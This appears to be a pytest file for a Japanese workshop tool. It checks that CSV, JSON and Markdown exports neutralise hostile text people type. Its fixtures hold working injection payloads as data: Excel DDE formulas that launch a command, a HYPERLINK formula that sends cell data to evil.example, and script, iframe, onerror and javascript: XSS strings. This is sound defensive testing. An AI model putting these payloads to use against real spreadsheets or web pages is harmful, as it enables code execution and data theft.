"""What people type cannot turn an export against its reader: no formula runs when the CSV
opens in Excel, no HTML or link comes alive when the Markdown is rendered.  The JSON
stays lossless, and our own CSV reads back exactly."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path

import pytest

from facilitator.cli.cluster import load_notes
from facilitator.io.exporters import export_file
from facilitator.io.importers import import_file
from facilitator.workshop.model import ActionItem, Decision, Group, Note, Participant, Theme
from facilitator.agenda.templates import read_template, records_from_template
from facilitator.workshop import Workshop

FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/\"&A1,\"詳細\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+αの提案", "-5%の予算", "'=引用符で始まる",
            "''+二つの引用符"]
MARKUP = ["<script>alert('x')</script>", "[クリック](javascript:alert(1))",
          "[リンク](http://evil.example/)", "![追跡](http://evil.example/p.png)",
          "\\[逃げた](http://evil.example/)", "`<b>太字</b>`", "R&D &amp; <i>斜体</i>",
          "<a href=\"javascript:alert(1)\">佐藤</a>", "<http://evil.example/>"]
ORDINARY = ["次回も参加したい", "スモールスタートで続ける"]


@pytest.fixture
def hostile(ws):
    """A workshop where every field people type holds a formula or markup."""
    discussion = ws.sessions()[1]
    group = ws.groups_of(discussion.id)[0]
    ws.update(ws.info, title="<script>alert(1)</script>&題", venue="[会場](http://evil.example/)",
              organiser="=HYPERLINK(\"http://evil.example/\")", purpose="![追跡](http://evil.example/p.png)",
              findings="<img src=x onerror=alert(1)>", next_steps="[次](javascript:alert(1))")
    ws.update(discussion, title="=1+2 <b>セッション</b>",
              prompts=["[問い](http://evil.example/)", "<img src=x onerror=alert(1)>"],
              summary="`<i>code</i>`")
    ws.update(group, name="@グループ<b>")
    theme = Theme(id="t1", session_id=discussion.id, label="+テーマ](http://evil.example/)", order=0)
    ws.add(theme, Participant(id="p1", name="<b>佐藤</b>", organisation="[社](http://evil.example/)"),
           Decision(id="d1", text="<iframe src=javascript:alert(1)>"),
           ActionItem(id="a1", what="[x](http://evil.example/)", owner="<b>事務局</b>", due="=NOW()"))
    texts = FORMULAS + MARKUP + ORDINARY
    ws.add(*[ws.new_note(t, discussion.id, group.id, author=a, theme_id=theme.id if i % 2 else None)
             for i, (t, a) in enumerate(zip(texts, ["=1+1", "<b>鈴木</b>", "-田中", ""] * 10))])
    return ws


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def view(ws: Workshop) -> list[tuple]:
    groups = {g.id: g.name for g in ws.all(Group)}
    themes = {t.id: t.label for t in ws.all(Theme)}
    titles = {s.id: s.title for s in ws.sessions()}
    return sorted((titles[n.session_id], groups.get(n.group_id, ""), themes.get(n.theme_id, ""),
                   n.text, n.author) for n in ws.all(Note))


# -- CSV --------------------------------------------------------------------------------
def test_no_csv_cell_starts_like_a_formula(hostile, tmp_path):
    out = tmp_path / "notes.csv"
    export_file(hostile, "csv", out)
    rows = cells(out)[1:]
    assert len(rows) == len(FORMULAS + MARKUP + ORDINARY)
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    texts = {row[3] for row in rows}
    assert "'=cmd|' /C calc'!A0" in texts
    assert {"'-5%の予算", "'+αの提案", "''=引用符で始まる"} <= texts  # OWASP's rule, no exceptions
    assert set(ORDINARY) <= texts
    assert {row[0] for row in rows} == {"'=1+2 <b>セッション</b>"}
    assert {row[1] for row in rows} == {"'@グループ<b>"}


def test_our_csv_reads_back_exactly(hostile, tmp_path):
    out = tmp_path / "notes.csv"
    export_file(hostile, "csv", out)
    with Workshop.create(tmp_path / "fresh.furikaeri",
                         records_from_template(read_template("standard"))) as fresh:
        fresh.update(fresh.sessions()[1], title=hostile.sessions()[1].title)
        import_file(fresh, out)
        assert view(fresh) == view(hostile)
    assert load_notes(out)[0] == [row[3] for row in _notes_in_file_order(out)]


def _notes_in_file_order(path: Path) -> list[list[str]]:
    from facilitator.io.csv_input import restore_cell
    return [[restore_cell(c) for c in row] for row in cells(path)[1:]]


def test_our_csv_saved_again_by_excel_reads_back_the_same(hostile, tmp_path):
    """Excel saves every cell as it was read (a quoted cell stays quoted), in CP932."""
    out = tmp_path / "notes.csv"
    export_file(hostile, "csv", out)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(cells(out))
    resaved = tmp_path / "resaved.csv"
    resaved.write_bytes(buf.getvalue().encode("cp932"))
    with Workshop.create(tmp_path / "fresh.furikaeri",
                         records_from_template(read_template("standard"))) as fresh:
        fresh.update(fresh.sessions()[1], title=hostile.sessions()[1].title)
        import_file(fresh, resaved)
        assert view(fresh) == view(hostile)


def test_someone_elses_csv_keeps_its_quotes(ws, tmp_path):
    src = tmp_path / "mine.csv"
    src.write_text("本文,名前\r\n'=自分で付けた引用符,'@佐藤\r\n=1+1,\r\n", encoding="utf-8")
    import_file(ws, src)
    assert sorted((n.text, n.author) for n in ws.all(Note)) == [
        ("'=自分で付けた引用符", "'@佐藤"), ("=1+1", "")]


# -- JSON stays lossless ---------------------------------------------------------------
def test_json_keeps_every_text_as_typed(hostile, tmp_path):
    out = tmp_path / "dump.json"
    export_file(hostile, "json", out)
    notes = json.loads(out.read_text(encoding="utf-8"))["records"]["notes"]
    assert sorted(n["text"] for n in notes) == sorted(FORMULAS + MARKUP + ORDINARY)


# -- Markdown -------------------------------------------------------------------------
def test_markdown_holds_no_raw_html(hostile, tmp_path):
    out = tmp_path / "minutes.md"
    export_file(hostile, "md", out)
    text = out.read_text(encoding="utf-8")
    assert "<" not in text and ">" not in text.replace("\n> ", "\n")
    assert "- -5%の予算" in text and "- +αの提案" in text  # ordinary Markdown left as typed


def _rendered(path: Path) -> str:
    markdown_it = pytest.importorskip("markdown_it")  # a common renderer, if installed
    return markdown_it.MarkdownIt("commonmark", {"html": True}).render(
        path.read_text(encoding="utf-8"))


def test_rendered_markdown_has_no_tag_link_or_image_from_people(hostile, tmp_path):
    out = tmp_path / "minutes.md"
    export_file(hostile, "md", out)
    page = _rendered(out)
    tags = set(re.findall(r"<([a-z0-9]+)", page))
    assert tags <= {"h1", "h2", "h3", "h4", "ul", "li", "p", "blockquote", "code"}, tags
    assert "code" not in tags  # no code span from a note's backticks either
    shown = html.unescape(re.sub(r"<[^>]+>", "", page))
    for text in MARKUP + ["-5%の予算", "+αの提案", "=cmd|' /C calc'!A0"]:
        assert text in shown, text  # every note still reads as typed
    for text in ("<b>鈴木</b>", "<b>佐藤</b>", "<iframe src=javascript:alert(1)>",
                 "[x](http://evil.example/)", "<b>事務局</b>", "=1+2 <b>セッション</b>"):
        assert text in shown, text
